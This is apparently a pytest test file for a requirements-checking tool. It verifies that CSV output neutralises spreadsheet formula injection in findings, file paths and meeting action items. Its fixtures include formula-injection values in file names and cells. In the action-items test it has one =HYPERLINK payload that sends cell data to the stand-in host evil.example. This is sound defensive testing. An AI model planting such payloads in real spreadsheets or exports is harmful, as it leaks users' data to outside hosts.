"""CSV: a header and one row per finding; quoting and formula cells handled."""
from __future__ import annotations

import csv
import io

import pytest

from ambiguity.output.csvout import COLUMNS, csv_lines


def test_rows_round_trip(analyzer):
    text = 'REQ-1: The UI shall be user-friendly, "nice", and fast.\n=CMD: it shall be easy to use.\n'
    report = analyzer.analyze(text, path="spec, v2.txt")
    lines = list(csv_lines([(report, report.findings)]))
    rows = list(csv.reader(io.StringIO("\n".join(lines) + "\n")))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == len(report.findings) + 1 > 2
    assert rows[1][0] == "spec, v2.txt"
    by_col = [dict(zip(COLUMNS, r)) for r in rows[1:]]
    assert {r["rule"] for r in by_col} == {f.rule for f in report.findings}
    assert all(not r["message"].startswith("=") for r in by_col)


# -- issue 16: formula injection through every cell ------------------------------------------------------------------
FORMULA_CELLS = ["=1+2", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1dSUM(A1)"]


def _starts_formula(cell: str) -> bool:
    from ambiguity.output.csvout import FORMULA_START

    return cell.startswith(FORMULA_START)


@pytest.mark.parametrize("cell", FORMULA_CELLS)
def test_a_cell_that_would_start_a_formula_gets_a_quote(cell):
    from ambiguity.output.csvout import safe_cell

    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell,expected", [("plain", "plain"), ("a=b", "a=b"), (" =1", " =1"), ("", ""),
                                           (None, ""), (3, "3"), ("'=already", "'=already")])
def test_other_cells_are_left_alone(cell, expected):
    from ambiguity.output.csvout import safe_cell

    assert safe_cell(cell) == expected


def test_scan_csv_defuses_the_path_column(fast_cli, tmp_path, monkeypatch):
    from click.testing import CliRunner

    from ambiguity.cli import main

    monkeypatch.chdir(tmp_path)
    names = ["=HYPERLINK(1).md", "@SUM(A1).md", "+cmd.md", "\t=tab.md"]
    for name in names:
        (tmp_path / name).write_text("The UI shall be user-friendly.\n")
    result = CliRunner().invoke(main, ["scan", *names, "--format", "csv", "--fail-on", "none"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))[1:]
    assert sorted({r[0] for r in rows}) == sorted("'" + n for n in names)
    assert not any(_starts_formula(cell) for r in rows for cell in r)


def test_actions_csv_defuses_owner_and_task():
    from ambiguity.meetings.cli import COLUMNS as ACTION_COLUMNS
    from ambiguity.meetings.cli import csv_lines as action_csv_lines
    from ambiguity.meetings.notes import read_notes

    notes = ("# Team meeting 2027-03-04\n\n## Action items\n\n- @alice will send the report by Friday.\n"
             '- =HYPERLINK("http://evil.example/?x="&A1) to be fixed by Bob.\n'
             "- Action: -1+2 Bob to update the wiki by Monday.\n")
    items = read_notes(notes, "notes.md", None).actions
    rows = [dict(zip(ACTION_COLUMNS, r)) for r in csv.reader(io.StringIO("\n".join(action_csv_lines(items))))][1:]
    assert len(rows) == 3
    assert rows[0]["owner"] == "'@alice" and rows[0]["text"].startswith("'@alice will send")
    assert rows[1]["text"].startswith("'=HYPERLINK(") and rows[2]["text"].startswith("'-1+2 Bob")
    assert not any(_starts_formula(cell) for r in rows for cell in r.values())
